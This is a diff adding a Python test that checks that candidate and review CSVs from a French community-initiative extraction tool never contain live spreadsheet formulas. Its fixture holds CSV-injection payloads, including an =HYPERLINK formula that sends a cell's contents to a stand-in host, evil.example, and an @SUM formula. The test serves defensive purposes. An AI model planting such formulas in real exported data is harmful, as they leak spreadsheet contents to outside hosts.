@@ -335,3 +335,26 @@ def test_already_on_the_map(gaz: Gazetteer) -> None:
     # Same name elsewhere is not the same initiative.
     moved = [{**extraction.candidates[2].row(), "code_insee": "62041", "commune": "Arras"}]
     assert already_published(moved, published) == [""]
+
+
+def test_outputs_opened_in_a_spreadsheet_never_hold_a_formula(
+    gaz: Gazetteer, tmp_path: Path
+) -> None:
+    """An outsider's communiqué whose sentences start like formulas: the candidates CSV and the
+    review CSV an editor opens in a spreadsheet hold them as text, and the import gives the
+    sentences back as written."""
+    text = (
+        'Solidarité\n\n=HYPERLINK("http://evil.example/?x="&A1;"Cliquez") À Lens, '
+        "l'association Les Amis distribue des repas aux personnes isolées.\n\n"
+        "@SUM(1+1) À Arras, le club de couture fabrique des masques pour les soignants.\n"
+    )
+    extraction = extract(text.encode(), "hostile.txt", gaz)
+    assert len(extraction.candidates) == 2
+    for written in (candidates_csv(extraction.candidates), review_csv(extraction.candidates)):
+        cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
+        formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert not formulas, formulas
+    path = tmp_path / "candidates.csv"
+    path.write_text(candidates_csv(extraction.candidates), encoding="utf-8")
+    loaded = load(path, gazetteer=gaz)
+    assert sorted(d[:10] for d in loaded.table["description"]) == ["=HYPERLINK", "@SUM(1+1) "]
